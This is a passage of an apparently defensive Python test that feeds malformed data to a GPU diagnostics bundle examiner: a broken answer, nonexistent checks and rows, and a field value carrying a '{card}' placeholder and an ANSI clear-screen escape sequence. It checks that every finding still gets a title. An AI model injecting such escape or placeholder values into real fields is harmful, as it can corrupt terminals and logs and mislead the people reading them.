            "tried": [{"what": "free bytes", "about": "/", "answer": "{"}],
            "observed": [
                {"check": "no_gpu", "row": "no such row"},
                {"check": "no such check", "row": "no_gpu"},
                {"check": "igpu_first", "row": "igpu_first", "values": {"igpu": "{card}\x1b[2J"}},
                {"check": "no_gpu", "row": "no_gpu", "severity": "fatal"},
            ],
        }
        file = packed(tmp_path, **changes)
        assert all(each.title for each in bundle.examine(file, matrix, "en").findings)
